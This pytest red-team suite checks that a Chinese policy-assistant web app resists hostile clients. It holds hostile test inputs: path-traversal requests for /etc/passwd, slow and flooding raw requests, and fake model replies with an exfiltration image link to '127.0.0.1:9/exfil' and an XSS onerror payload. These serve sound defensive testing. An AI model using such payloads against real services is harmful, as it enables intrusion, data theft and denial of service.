"""Red team (issue 12): the running app against hostile clients — bounded work per request, staff-only means
staff-only, security headers, no 5xx on bad input, no personal data in the log — and, in process, the parts
that need a clock or a fake model: session expiry, rate-limit refill, the in-flight cap, the LLM guard.

One app for the module, with small limits and 127.0.0.1 trusted as a proxy: each test speaks as its own
client through X-Forwarded-For, so their limits do not mix. The loopback-only staff test starts a second app
bound to 0.0.0.0 without a login and calls it through this machine's non-loopback address; on a machine with
none, it trusts 127.0.0.1 as a proxy instead and names an outside client in X-Forwarded-For.
"""

from __future__ import annotations

import asyncio
import http.client
import json
import socket
import threading
import time
from collections.abc import Callable, Coroutine, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import httpx
import pytest
from running_app import RunningApp, start_app

CHAT, CHECK = "/v1/chat/completions", "/api/check"
PASSWORD = "red-team-s3cret"
BURST, HEADER_TIMEOUT_S, BODY_TIMEOUT_S = 6, 1, 2
CLOCKS = 0.05  # the server's event-loop timer may fire a few ms before this process's clock says so
ENV = {"ASSISTANT_PROFILE": "test", "ASSISTANT_LLM_BASE_URL": "", "ASSISTANT_STAFF_USER": "staff",
       "ASSISTANT_STAFF_PASSWORD": PASSWORD, "ASSISTANT_ACCESS__TRUSTED_PROXIES": "127.0.0.1",
       "ASSISTANT_ACCESS__LOGIN_FAILURES": "3", "ASSISTANT_LIMITS__BURST": str(BURST),
       "ASSISTANT_LIMITS__RATE_PER_MINUTE": "6", "ASSISTANT_LIMITS__MAX_IN_FLIGHT": "4",
       "ASSISTANT_LIMITS__HEADER_TIMEOUT_S": str(HEADER_TIMEOUT_S),
       "ASSISTANT_LIMITS__BODY_TIMEOUT_S": str(BODY_TIMEOUT_S), "ASSISTANT_MAX_UPLOAD_MB": "1"}
ADDRESSES = (f"10.{a}.{b}.{c}" for a in range(1, 250) for b in range(250) for c in range(1, 250))
PII = {"１３８１２３４５６７８": "13812345678", "139.1234.5678": "13912345678", "137 1234 5678": "13712345678",
       "ｌｉｓｉ＠ｅｘａｍｐｌｅ．ｃｏｍ": "lisi@example.com", "110101 19900307 1234": "110101199003071234",
       "110105491231002": "110105491231002", "0731 8888 1234": "073188881234", "(010)6208-3864": "62083864"}


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory, free_port: Callable[[], int]) -> Iterator[RunningApp]:
    running = start_app(tmp_path_factory.mktemp("redteam"), free_port(), ENV)
    yield running
    running.stop()


def client(app: RunningApp, **headers: str) -> httpx.Client:
    """A client with an address of its own (named by the trusted proxy header)."""
    return httpx.Client(base_url=app.url, timeout=60, headers={"X-Forwarded-For": next(ADDRESSES), **headers})


def chat(question: str) -> dict[str, Any]:
    return {"messages": [{"role": "user", "content": question}]}


def is_chinese_error(response: httpx.Response) -> bool:
    message = response.json()["error"]["message"]
    return any("\u4e00" <= ch <= "\u9fff" for ch in message)


# --- headers and the staff pages ---------------------------------------------------------------------------

@pytest.mark.server
def test_every_response_carries_the_security_headers(app: RunningApp) -> None:
    with client(app) as http:
        responses = [http.get("/"), http.get("/healthz"), http.get("/staff/"), http.get("/no-such-page"),
                     http.post(CHAT, content=b"x" * (2 * 1024 * 1024))]
    for response in responses:
        assert response.headers["x-frame-options"] == "DENY", response.url
        policy = response.headers["content-security-policy"]
        assert "frame-ancestors 'none'" in policy and "img-src 'self' data: blob:" in policy
        assert "default-src 'self'" in policy and response.headers["x-content-type-options"] == "nosniff"


@pytest.mark.server
def test_staff_redirects_to_its_folder(app: RunningApp) -> None:
    with client(app) as http:
        response = http.get("/staff?tab=1")
    assert response.status_code == 308 and response.headers["location"] == "/staff/?tab=1"


def plant_staff_files(data_dir: Path) -> list[Path]:
    """Files like those the staff pages produce: a report in the staff app's folder, an evaluation run, a source."""
    planted = [data_dir / "tmp" / "staff" / "0f1e2d" / "评测报告-20250920.html", data_dir / "runs" / "r1" / "report.html",
               data_dir / "documents" / "jiangsu.json"]
    for path in planted:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("<p>staff only 内部资料</p>", encoding="utf-8")
    return planted


STAFF_CALLS = [("GET", "/staff/config", {}), ("GET", "/staff/gradio_api/info", {}),
               ("GET", "/staff/gradio_api/openapi.json", {}),
               *[("POST", "/staff/gradio_api/queue/join", {"json": {"data": [], "fn_index": i, "session_hash": "rt"}})
                 for i in range(4)],
               *[("POST", f"/staff/gradio_api/{kind}/{name}", {"json": {"data": []}})
                 for kind in ("call", "run", "api") for name in ("run_eval", "reply", "ingest")],
               ("GET", "/staff/gradio_api/call/ingest/abc", {}),
               ("POST", "/staff/gradio_api/upload", {"files": {"files": ("a.txt", b"planted", "text/plain")}}),
               ("GET", "/staff/./config", {}), ("GET", "/staff//config", {}), ("GET", "//staff/config", {}),
               ("GET", "/staff/%2e/config", {}), ("GET", "/staff/gradio_api/../config", {})]


def raw_status(url: str, path: str, **headers: str) -> tuple[int, str]:
    """GET ``path`` exactly as written (httpx would tidy ``//`` and ``/./``)."""
    host, port = url.removeprefix("http://").split(":")
    connection = http.client.HTTPConnection(host, int(port), timeout=30)
    try:
        connection.request("GET", path, headers=headers)
        response = connection.getresponse()
        return response.status, response.read().decode("utf-8", "replace")
    finally:
        connection.close()


def assert_refused(url: str, calls: list[tuple[str, str, dict[str, Any]]], statuses: tuple[int, ...],
                   **headers: str) -> None:
    """Each call, from a client of its own (no rate limit mixes in), is refused with one of ``statuses``."""
    for method, path, sent in calls:
        if "/." in path or "//" in path:
            status, text = raw_status(url, path, **{"X-Forwarded-For": next(ADDRESSES), **headers})
        else:
            with httpx.Client(base_url=url, timeout=30, headers={"X-Forwarded-For": next(ADDRESSES), **headers}) as http:
                response = http.request(method, path, **sent)
            status, text = response.status_code, response.text
        assert status in statuses, (method, path, status, text[:200])
        assert "staff only" not in text and "运行评测" not in text, path


@pytest.mark.server
def test_every_staff_function_and_file_refuses_an_anonymous_client(app: RunningApp) -> None:
    planted = plant_staff_files(app.data_dir)
    assert_refused(app.url, STAFF_CALLS + [("GET", f"/staff/gradio_api/file={path}", {}) for path in planted],
                   (401, 403, 404))
    with client(app) as http:
        public = app.data_dir / "tmp" / "public"
        for written in [*map(str, planted), f"{public}/../staff/0f1e2d/{planted[0].name}", f"{public}/../../runs/r1/report.html"]:
            response = http.get(f"/gradio_api/file={written}")  # the public app serves none of them
            assert response.status_code == 403 and "staff only" not in response.text, written
        for name in ("run_eval", "reply", "ingest"):  # nor does it run the staff functions
            response = http.post(f"/gradio_api/call/{name}", json={"data": []})
            assert 400 <= response.status_code < 500, (name, response.status_code)


def outside_address() -> str | None:
    """This machine's address on its default route, when it has one that is not loopback."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))  # no packet is sent: this only picks the outgoing interface
        except OSError:
            return None
        address = probe.getsockname()[0]
    return None if address.startswith("127.") else address


@pytest.mark.server
def test_without_a_login_the_staff_pages_answer_only_loopback_clients(tmp_path: Path, free_port) -> None:
    outside = outside_address()
    env = {"ASSISTANT_PROFILE": "test", "ASSISTANT_LLM_BASE_URL": "", "ASSISTANT_HOST": "0.0.0.0"}
    spoof = {} if outside else {"X-Forwarded-For": "203.0.113.7"}
    if not outside:  # simulated: 127.0.0.1 is a trusted proxy and names an outside client
        env["ASSISTANT_ACCESS__TRUSTED_PROXIES"] = "127.0.0.1"
    app = start_app(tmp_path, free_port(), env)
    remote = app.url.replace("127.0.0.1", outside) if outside else app.url
    try:
        with httpx.Client(base_url=remote, timeout=30, headers=spoof) as http:
            page = http.get("/staff/", headers={"Accept": "text/html"})
            assert page.status_code == 403 and "ASSISTANT_STAFF_USER" in page.text and "本机" in page.text
            if outside:  # a header a remote client writes itself changes nothing
                assert http.get("/staff/config", headers={"X-Forwarded-For": "127.0.0.1"}).status_code == 403
            assert http.get("/").status_code == 200  # the public pages stay open
        assert_refused(remote, STAFF_CALLS, (403, 404), **spoof)  # 404: //staff/… is not the staff app
        with httpx.Client(base_url=app.url, timeout=30) as local:
            assert local.get("/staff/config").status_code == 200
            if outside:  # through a proxy on this host that is not trusted: not a local client
                assert local.get("/staff/config", headers={"X-Real-IP": "203.0.113.9"}).status_code == 403
    finally:
        app.stop()


@pytest.mark.server
def test_staff_pages_need_the_login_when_one_is_configured(app: RunningApp) -> None:
    with client(app) as anonymous:
        assert anonymous.get("/staff/config").status_code == 401
        assert anonymous.get("/config").status_code == 200  # the public pages stay open
    with client(app) as staff:
        assert staff.post("/staff/login", data={"username": "staff", "password": PASSWORD}).status_code == 200
        config = staff.get("/staff/config")
        assert config.status_code == 200 and "运行评测" in config.text and "复函起草" in config.text


@pytest.mark.server
def test_a_client_is_locked_out_after_repeated_wrong_passwords(app: RunningApp) -> None:
    with client(app) as guesser:
        for _ in range(3):
            assert guesser.post("/staff/login", data={"username": "staff", "password": "guess"}).status_code == 400
        locked = guesser.post("/staff/login", data={"username": "staff", "password": PASSWORD})
        assert locked.status_code == 429 and "登录失败次数过多" in locked.json()["error"]["message"]
        assert int(locked.headers["retry-after"]) > 60
    with client(app) as staff:
        accepted = staff.post("/staff/login", data={"username": "staff", "password": PASSWORD})
        assert accepted.status_code == 200
        cookies = accepted.headers.get_list("set-cookie")
        assert cookies and all("Max-Age=28800" in c and "SameSite=Lax" in c and "HttpOnly" in c for c in cookies)
        assert not any("Secure" in c for c in cookies)
        assert staff.get("/staff/config").status_code == 200
    with client(app, **{"X-Forwarded-Proto": "https"}) as behind_tls:
        cookies = behind_tls.post("/staff/login", data={"username": "staff", "password": PASSWORD}).headers
        assert all(c.endswith("Secure") for c in cookies.get_list("set-cookie"))


# --- bounded work per request -------------------------------------------------------------------------------

def raw_request(app: RunningApp, data: bytes) -> socket.socket:
    host, port = app.url.removeprefix("http://").split(":")
    connection = socket.create_connection((host, int(port)), timeout=15)
    connection.sendall(data)
    return connection


@pytest.mark.server
def test_bodies_over_the_cap_or_too_slow_are_refused_early(app: RunningApp) -> None:
    with client(app) as http:
        big = http.post(CHAT, json=chat("申" * 600_000))
        assert big.status_code == 413 and "请求内容过大" in big.json()["error"]["message"]
        upload = http.post("/gradio_api/upload", files={"files": ("big.txt", b"x" * (2 * 1024 * 1024), "text/plain")})
        assert upload.status_code == 413
    head = (b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
            b"X-Forwarded-For: 10.250.0.1\r\n")
    with raw_request(app, head + b"Content-Length: 52428800\r\n\r\n") as declared:  # 50 MB announced, none sent
        assert declared.recv(200).startswith(b"HTTP/1.1 413")  # not 408: refused without waiting for the body
    started = time.monotonic()
    with raw_request(app, head + b"Content-Length: 100\r\n\r\n{\"messages\":") as slow:
        assert slow.recv(200).startswith(b"HTTP/1.1 408")
    assert BODY_TIMEOUT_S - CLOCKS <= time.monotonic() - started < BODY_TIMEOUT_S + 10
    started = time.monotonic()
    with raw_request(app, b"GET /healthz HTTP/1.1\r\nHost: x\r\n") as unfinished:  # headers never finished
        assert unfinished.recv(200) == b""
    assert HEADER_TIMEOUT_S - CLOCKS <= time.monotonic() - started < HEADER_TIMEOUT_S + 10


@pytest.mark.server
def test_chat_pre_screening_and_ui_events_are_rate_limited_per_client(app: RunningApp) -> None:
    for path, body in ((CHECK, {"text": "我们是重庆市城口县人民政府"}), (CHAT, chat("申报要交费吗？")),
                       ("/gradio_api/queue/join", {"data": [], "fn_index": 0, "session_hash": "rt"})):
        with client(app) as http:
            statuses = [http.post(path, json=body).status_code for _ in range(BURST)]
            assert 429 not in statuses and max(statuses) < 500, (path, statuses)
            refused = http.post(path, json=body)
            assert refused.status_code == 429 and "请求过于频繁" in refused.json()["error"]["message"], path
            assert int(refused.headers["retry-after"]) >= 1
        with client(app) as other:  # another client is not affected
            assert other.post(path, json=body).status_code != 429


FLOOD = 12  # 3 × ASSISTANT_LIMITS__MAX_IN_FLIGHT of the app under test
FLOOD_TURNS = [{"role": role, "content": ("我们是浦东新区人民政府，" if role == "user" else "") + "申" * 1980}
               for _ in range(30) for role in ("user", "assistant")]


@pytest.mark.server
def test_a_normal_chat_answers_while_oversized_requests_queue(app: RunningApp) -> None:
    """Requests of ~360 KB (60 turns of 2 000 characters: the most a request may carry) from FLOOD clients, three
    times what may be in flight at once; bench/bench_flood.py sends 45 and times them against the targets."""
    results: list[int] = []

    def attack() -> None:
        with client(app) as attacker:
            results.append(attacker.post(CHAT, json={"messages": [*FLOOD_TURNS, chat("能申报示范县吗？")["messages"][0]]})
                           .status_code)

    attackers = [threading.Thread(target=attack) for _ in range(FLOOD)]
    for thread in attackers:
        thread.start()
    time.sleep(0.2)
    started = time.monotonic()
    with client(app) as user:
        answer = user.post(CHAT, json=chat("申报需要交费吗？"))
    print(f"normal chat during the flood: {time.monotonic() - started:.2f} s")
    for thread in attackers:
        thread.join(timeout=120)
    assert answer.status_code == 200 and "不得以任何形式" in answer.json()["choices"][0]["message"]["content"]
    assert len(results) == FLOOD and all(status == 200 for status in results), results


@pytest.mark.server
def test_a_normal_chat_answers_with_200_unread_streams_open(app: RunningApp) -> None:
    body = json.dumps({**chat("我们是昆山市人民政府，能申报哪些项目？"), "stream": True}).encode()
    sockets = [raw_request(app, b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                                + f"X-Forwarded-For: {next(ADDRESSES)}\r\nContent-Length: {len(body)}\r\n\r\n".encode()
                                + body) for _ in range(200)]
    try:
        started = time.monotonic()
        with client(app) as user:
            answer = user.post(CHAT, json=chat("申报需要交费吗？"))
        print(f"normal chat with 200 unread streams: {time.monotonic() - started:.2f} s")
        assert answer.status_code == 200 and "不得以任何形式" in answer.text
    finally:
        for connection in sockets:
            connection.close()


# --- bad input and personal data ----------------------------------------------------------------------------

JSON = {"content-type": "application/json"}
BAD_INPUT = [
    ("POST", CHAT, {"content": b'{"messages": [', "headers": JSON}),
    ("POST", CHAT, {"json": {"messages": 5}}), ("POST", CHAT, {"json": {"messages": [{"role": "user", "content": {}}]}}),
    ("POST", CHAT, {"content": b'{"messages": [{"role": "user", "content": "x"}], "n": 1' + b"0" * 400 + b"}",
                    "headers": JSON}),
    ("POST", CHAT, {"content": b'{"messages": [{"role": "user", "content": "x"}], "max_tokens": 1e999}', "headers": JSON}),
    ("POST", CHAT, {"json": {**chat("你好"), "temperature": "hot", "n": 1000000}}),
    ("POST", CHAT, {"json": {**chat("你好"), "stream": "yes"}}), ("POST", CHAT, {"json": {**chat("你好"), "as_of": "99999-1-1"}}),
    ("POST", CHAT, {"json": {"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "x"}}]}]}}),
    ("POST", CHECK, {"json": {"text": ["列表"]}}), ("POST", CHECK, {"json": {"text": "城口县", "as_of": 10**20}}),
    ("POST", CHECK, {"content": b"null", "headers": JSON}), ("POST", CHECK, {"content": b"[]", "headers": JSON}),
    *[(method, path, {}) for method in ("GET", "PUT", "DELETE", "PATCH") for path in (CHAT, CHECK)],
    ("POST", "/healthz", {}), ("OPTIONS", CHAT, {}), ("HEAD", CHAT, {}),
    *[("POST", "/gradio_api/queue/join", {"json": body}) for body in (
        {"data": [], "fn_index": 99999, "session_hash": "rt"}, {"data": [], "fn_index": -1, "session_hash": "rt"},
        {"data": [], "fn_index": "x", "session_hash": "rt"}, {"data": "x", "fn_index": 1, "session_hash": "rt"},
        {"data": [], "fn_index": 1}, {"fn_index": 1, "session_hash": "rt", "trigger_id": 10**30}, [], None)],
    ("POST", "/gradio_api/queue/join", {"content": b"{", "headers": JSON}),
    ("POST", "/gradio_api/call/no_such_function", {"json": {"data": []}}),
    ("POST", "/gradio_api/call/prescreen", {"json": {"data": "not a list"}}),
    ("POST", "/gradio_api/run/predict", {"json": {"data": [], "fn_index": 12345}}),
    ("POST", "/gradio_api/api/no_such_function", {"json": {"data": []}}),
    ("GET", "/gradio_api/call/prescreen/no-such-event", {}),
    ("POST", "/gradio_api/upload", {"content": b"not multipart", "headers": {"content-type": "multipart/form-data"}}),
    ("POST", "/gradio_api/upload", {"content": b"--x\r\nbroken", "headers": {"content-type": "multipart/form-data; boundary=x"}}),
    ("POST", "/gradio_api/cancel", {"json": {"event_id": 5}}), ("POST", "/gradio_api/reset", {"json": {}}),
    ("POST", "/gradio_api/stream/no-such-event", {"json": {}}),
    *[("GET", f"/gradio_api/file={target}", {}) for target in (
        "/etc/passwd", "../../../../etc/passwd", "%2e%2e/%2e%2e/etc/passwd", "http://127.0.0.1:9/x", "%00", "")],
    ("GET", "/gradio_api/proxy=https://example.hf.space/x", {}),
    *[("GET", path, {}) for path in ("/" + "a" * 10_000, "/%00", "/..%2f..%2fetc/passwd", "/static/../../../etc/passwd",
                                     "/assets/%2e%2e/%2e%2e/etc/passwd", "/申报", "/gradio_api/info", "/config",
                                     "/gradio_api/startup-events", "/gradio_api/queue/status", "/login", "/logout")],
]


@pytest.mark.server
def test_no_server_error_across_a_battery_of_bad_input(app: RunningApp) -> None:
    for method, path, sent in BAD_INPUT:
        with client(app) as http:
            response = http.request(method, path, **sent)
        assert response.status_code < 500, (method, path[:80], response.status_code, response.text[:200])
        if path in (CHAT, CHECK) and response.status_code >= 400 and method != "HEAD":
            assert is_chinese_error(response), (method, path, response.text[:200])
    assert app.process.poll() is None
    assert not [r for r in app.records() if r.get("status", 0) >= 500 and r["path"] != "/healthz"]  # 503: warming up


@pytest.mark.server
def test_personal_data_in_any_form_is_redacted_in_the_app_log(app: RunningApp) -> None:
    text = "，".join(PII) + "。我们是重庆市城口县人民政府，申报要交费吗？"
    with client(app) as http:
        assert http.post(CHAT, json=chat(text[:2000])).status_code == 200
        assert http.post(CHECK, json={"text": text}).status_code == 200
    app.wait_for_record(lambda r: r.get("path") == CHECK and "question" in r)
    log = app.log.read_text(encoding="utf-8")
    leaked = [form for written, folded in PII.items() for form in (written, folded) if form in log]
    assert leaked == []


# --- in process: clocks, fake models ------------------------------------------------------------------------

def test_profile_extraction_grows_linearly_with_the_text() -> None:
    from assistant.rules import extract_profile

    sentence = "我们是江苏省苏州市昆山市人民政府，产业集聚明显，拥有国家级开发区。我们公司成立于2010年。"
    texts = [(sentence * (size // len(sentence) + 1))[:size] for size in (10_000, 40_000)]
    extract_profile(sentence)
    runs = [[cpu_seconds(lambda t=text: extract_profile(t)) for text in texts] for _ in range(3)]  # interleaved
    small, large = (min(run[i] for run in runs) for i in range(2))
    print(f"extract_profile: 10k {small:.3f} s, 40k {large:.3f} s")
    assert large < 8 * small  # linear: ~4×; the quadratic code took 10–16×


def cpu_seconds(work: Callable[[], Any]) -> float:
    started = time.process_time()
    work()
    return time.process_time() - started


def test_earlier_turns_are_bounded_in_number_and_size(assistant: Any) -> None:
    from assistant.errors import InvalidInputError

    limits = assistant.settings.limits
    remembered = assistant.conversation_from(["我们是上海市浦东新区人民政府"] + ["申报要交费吗？"] * limits.max_turns)
    assert remembered.profile is None or "浦东" not in json.dumps(remembered.profile.model_dump(), ensure_ascii=False)
    recent = assistant.conversation_from(["申" * 1990] * 20 + ["我们是上海市浦东新区人民政府"])
    assert recent.profile is not None  # the newest turn is read even when older ones fill the budget
    with pytest.raises(InvalidInputError, match="过长"):
        assistant.conversation_from(["申" * 2001, "你好"])


def run_async(coroutine: Coroutine[Any, Any, Any]) -> Any:
    """``asyncio.run`` on a thread of its own: Playwright's sync API keeps a loop running on the main thread
    once a browser test has run in this process."""
    with ThreadPoolExecutor(1) as pool:
        return pool.submit(asyncio.run, coroutine).result()


def asgi_call(app: Any, path: str, cookie: str = "", method: str = "GET") -> tuple[int, dict[str, Any]]:
    """One request through an ASGI app: its status and what the inner app saw."""
    sent: list[dict[str, Any]] = []
    scope = {"type": "http", "method": method, "path": path, "headers": [(b"cookie", cookie.encode())],
             "client": ("10.9.9.9", 1), "scheme": "http", "query_string": b""}

    async def receive() -> dict[str, Any]:
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    run_async(app(scope, receive, send))
    start = next(m for m in sent if m["type"] == "http.response.start")
    return start["status"], {k.decode(): v.decode() for k, v in start["headers"]}


def test_a_staff_session_ends_after_its_hours(tmp_path: Path) -> None:
    from assistant.settings import AccessSettings
    from assistant.web.access import StaffAccess

    async def gradio(scope: dict[str, Any], _receive: Any, send: Any) -> None:
        cookie = dict(scope["headers"]).get(b"cookie", b"")
        headers = [(b"set-cookie", b"access-token-0a=tok1; HttpOnly; Path=/; SameSite=none; Secure")] \
            if scope["path"] == "/staff/login" else [(b"x-seen-cookie", cookie)]
        await send({"type": "http.response.start", "status": 200, "headers": headers})
        await send({"type": "http.response.body", "body": b""})

    now = [1000.0]
    door = StaffAccess(gradio, login=True, access=AccessSettings(session_hours=1), clock=lambda: now[0])
    assert asgi_call(door, "/staff/login", method="POST")[1]["set-cookie"].count("Max-Age=3600") == 1
    assert asgi_call(door, "/staff/config", "access-token-0a=tok1; other=1")[1]["x-seen-cookie"] == \
        "access-token-0a=tok1; other=1"
    assert asgi_call(door, "/staff/config", "access-token-0a=forged")[1]["x-seen-cookie"] == ""
    now[0] += 3601
    assert asgi_call(door, "/staff/config", "access-token-0a=tok1; other=1")[1]["x-seen-cookie"] == "other=1"


def test_the_token_bucket_refills_and_caps_requests_in_flight() -> None:
    from assistant.web.limits import RateLimit

    gate = asyncio.Event()

    async def slow(_scope: Any, _receive: Any, send: Any) -> None:
        await gate.wait()
        await send({"type": "http.response.start", "status": 200, "headers": []})
        await send({"type": "http.response.body", "body": b""})

    now = [0.0]
    limiter = RateLimit(slow, rate_per_minute=60, burst=3, max_in_flight=2, clock=lambda: now[0])

    async def scenario() -> list[int]:
        async def one() -> int:
            statuses: list[int] = []

            async def send(message: dict[str, Any]) -> None:
                if message["type"] == "http.response.start":
                    statuses.append(message["status"])

            scope = {"type": "http", "method": "POST", "path": CHAT, "headers": [], "client": ("10.8.8.8", 1)}
            await limiter(scope, None, send)
            return statuses[0]

        tasks = [asyncio.create_task(one()) for _ in range(3)]
        await asyncio.sleep(0.01)
        gate.set()
        first = await asyncio.gather(*tasks)  # the third is refused while two are in flight, and costs no token
        later = [await one(), await one()]  # the third token, then none
        now[0] += 1.0  # one token back after a second at 60 per minute
        return [*first, *later, await one()]

    assert run_async(scenario()) == [200, 200, 429, 200, 429, 200]


LEAD = "不能申报示范县"


@pytest.mark.parametrize("reply", [
    "贵单位完全满足示范县的各项要求，建议尽快准备材料提交。",
    "直辖市的区不能申报示范县的说法已过时，请按时报送。",
    "浦东新区是直辖市的市辖区〔notice#2.2〕。![](http://127.0.0.1:9/exfil?q=浦东新区人民政府)",
    "浦东新区是直辖市的市辖区〔notice#2.2〕。请在 [申报系统](http://apply.example.cn) 上提交。",
    "浦东新区是直辖市的市辖区〔notice#2.2〕。<img src=x onerror=alert(1)>",
])
def test_a_contradicting_or_link_bearing_model_answer_is_never_shown(assistant: Any, reply: str) -> None:
    from langchain_core.language_models.fake_chat_models import FakeListChatModel

    from assistant.answering import Assistant

    model = FakeListChatModel(responses=[reply])
    guarded = Assistant(assistant.settings, library=assistant.library, retriever=assistant.retriever,
                        chat_model=model)
    answer = guarded.ask("我们是上海市浦东新区人民政府，能申报示范县吗？")
    assert answer.mode == "extractive" and answer.answer.startswith(LEAD) and "guard" in answer.trace["fallback"]
    assert not [shown for shown in ("满足示范县", "过时", "http", "<img", "申报系统") if shown in answer.answer]


def test_the_model_only_explains_after_the_programs_verdict(assistant: Any) -> None:
    from langchain_core.language_models.fake_chat_models import FakeListChatModel

    from assistant.answering import Assistant

    reply = "浦东新区是直辖市的市辖区〔notice#2.2〕。贵单位可以准备示范县的申报材料。"  # the last sentence is not the model's to say
    guarded = Assistant(assistant.settings, library=assistant.library, retriever=assistant.retriever,
                        chat_model=FakeListChatModel(responses=[reply]))
    answer = guarded.ask("我们是上海市浦东新区人民政府，能申报示范县吗？")
    assert answer.mode == "llm" and answer.answer.startswith(LEAD)
    assert "浦东新区是直辖市的市辖区〔notice#2.2〕。" in answer.answer and "准备示范县" not in answer.answer
